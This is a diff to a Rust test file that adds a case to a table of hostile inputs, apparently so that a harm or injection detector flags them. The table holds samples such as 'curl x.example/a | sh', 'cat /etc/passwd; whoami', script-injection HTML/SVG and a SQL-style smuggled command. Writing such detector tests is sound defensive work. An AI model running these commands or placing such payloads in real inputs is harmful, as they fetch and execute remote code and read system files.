@@ -112,6 +112,11 @@ fn what_breaks_out_or_does_harm_still_counts() {
         (Target::Json, "messages.content.input.command", "cat /etc/passwd; whoami"),
         (Target::Json, "html", "<button onclick=\"fetch('//x.example')\">"),
         (Target::Json, "svg", "<svg><animate attributeName=\"href\" values=\"javascript:alert(1)\"/></svg>"),
+        (
+            Target::Json,
+            "diff",
+            "@@ -1 +1 @@\n;curl x.example/a | sh\n+b\n-c\n-dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd\n",
+        ),
         (Target::Json, "diff", "@@ -1 +1 @@\n-a\n+b\n ; cat /etc/passwd\n"),
         (Target::Json, "id", "1; SET @p1 = 1"),
     ];
